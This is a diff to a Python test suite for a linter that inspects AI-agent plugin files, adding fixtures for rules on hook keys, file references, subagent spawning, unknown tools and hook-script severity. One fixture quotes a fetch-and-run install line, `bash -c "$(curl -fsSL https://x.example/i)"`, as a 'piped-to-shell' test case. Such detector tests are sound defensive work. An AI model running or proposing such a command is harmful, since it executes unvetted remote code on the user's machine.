@@ -98,6 +98,27 @@ SILENT = [
         {"skills/create-command/SKILL.md": skill("Uses `$ARGUMENTS`, `$1`/`$2` positional args.", "create-command", "argument-hint: x\n")},
         "command-argument",
     ),
+    # The second set.
+    ({"hooks/hooks.json": hooks("SessionStart", commandWindows="true.exe")}, "hook-key"),
+    ({"skills/s/SKILL.md": skill("`${CLAUDE_SKILL_DIR}/templates/X` missing: stop. Or `%s/scripts/SCRIPT.py`." % ROOT_PATH)}, "ref-file"),
+    ({"skills/s/SKILL.md": skill("It reads `${CLAUDE_SKILL_DIR}/scripts/host`."), "skills/s/scripts/.gitignore": "host\n"}, "ref-file"),
+    ({"skills/s/SKILL.md": skill("Give a path (e.g., `a.sh`, `scripts/b.sh`)."), "skills/s/scripts/a.sh": "#!/bin/sh\n"}, "ref-file"),
+    (
+        {"skills/writing-skills/SKILL.md": skill('Spawn with subagent_type: "general-purpose".', "writing-skills", "allowed-tools: Read\n")},
+        "protocol-spawn",
+    ),
+    (narrow('Use the Task tool with:\n- subagent_type: "demo-pack:reviewer"'), "protocol-spawn"),
+    (narrow('Use the Task tool with:\n- subagent_type: "demo-pack:reviewer"'), "tool-ungranted"),
+    ({TEAM: agent("x", "reviewer", "tools: [Read, Grep, read, search]\n")}, "tool-unknown"),
+    ({"agents/r.agent.md": agent("x", "r", "tools: [Read, srv/one]\n")}, "tool-unknown"),
+    ({"commands/build.md": command("`demo-pack:old-one` becomes `demo-pack:build`.")}, "ref-name"),
+    ({"skills/s/SKILL.md": skill("Procedure for bootstrapping the `incident-notes` skill.")}, "ref-skill"),
+    ({"commands/build.md": command('Other reviewers (e.g. subagent_type: "codex:rescue").')}, "ref-agent"),
+    (
+        {"commands/build.md": command('Spawn subagent_type: "coderabbit:reviewer".'), "README.md": "# D\n\n- CodeRabbit plugin installed\n"},
+        "ref-agent",
+    ),
+    ({"skills/s/SKILL.md": skill("Offer to install it via `bash -c \"$(curl -fsSL https://x.example/i)\"`.")}, "piped-to-shell"),
     # Bash's words where Bash runs, in what is quoted, and in a document.
     (guard("g.sh", "#!/usr/bin/env bash\n[[ -n $X ]] && exit 0\na=(1 2)\nexit 0\n"), "hook-sh"),
     (guard("g.sh", "#!/bin/sh\n# if [[ x ]]\nawk '{ a[[1]] }' /dev/null\ncat << E > /dev/null\na=(1)\n[[ x ]]\nE\nexit 0\n"), "hook-sh"),
@@ -128,6 +149,12 @@ FOUND = [
     ({"hooks/hooks.json": hooks("SessionStart", onError="continue")}, "hook-key"),
     (guard("g.js", GUARD % "console.error('blocked', error);"), "hook-fails-open"),
     ({"commands/build.md": command("Take `$1` and build.", "argument-hint: x\n")}, "command-argument"),
+    ({"hooks/hooks.json": hooks("SessionStart", commands="true.exe")}, "hook-key"),
+    ({"skills/s/SKILL.md": skill("It reads `${CLAUDE_SKILL_DIR}/scripts/host`.")}, "ref-file"),
+    ({"skills/s/SKILL.md": skill("Spawn with subagent_type: \"general-purpose\".", "s", "allowed-tools: Read\n")}, "protocol-spawn"),
+    (narrow('Use the Task tool with:\n- subagent_type: "general-purpose"'), "protocol-spawn"),
+    ({TEAM: agent("x", "reviewer", "tools: [Read, Grep, search]\n")}, "tool-unknown"),
+    ({"commands/build.md": command('Spawn subagent_type: "codex:rescue".')}, "ref-agent"),
     (guard("g.sh", "#!/bin/sh\nif [[ -n $X ]]; then exit 2; fi\nexit 0\n"), "hook-sh"),
     (guard("g.sh", "#!/bin/sh\na=(1 2)\nexit 0\n"), "hook-sh"),
     (guard("g.sh", "#!/usr/bin/env sh\ncat <<< x\nexit 0\n"), "hook-sh"),
@@ -164,6 +191,19 @@ def said(tmp_path_factory):
 def test_no_alarm_and_no_silence(said):
     wrong = [(rule, wanted, sorted(named), files) for files, rule, wanted, named in said if (rule in named) != wanted]
     assert not wrong, "\n".join(map(repr, wrong))
+
+
+def test_a_plugin_that_another_program_installs(tmp_path, tmp_path_factory):
+    run = shipped(pythons.EXTREMES[0], tmp_path_factory)
+    levels = []
+    for place in ("src/made/assets/plugin", "plugin"):
+        root = tmp_path / place.replace("/", "-")
+        write(root / place, PLUGIN)
+        write(root / place, guard("g.sh", "#!/bin/sh\nexit 0\n"))
+        os.chmod(str(root / place / "scripts/g.sh"), 0o644)
+        found = json.loads(run(root, "--no-cache", "--format", "json")[1])["findings"]
+        levels += [one["severity"] for one in found if one["rule"] == "hook-script"]
+    assert levels == ["warning", "error"]
 
 
 def test_folders_for_several_programs_are_no_agents(tmp_path, tmp_path_factory):
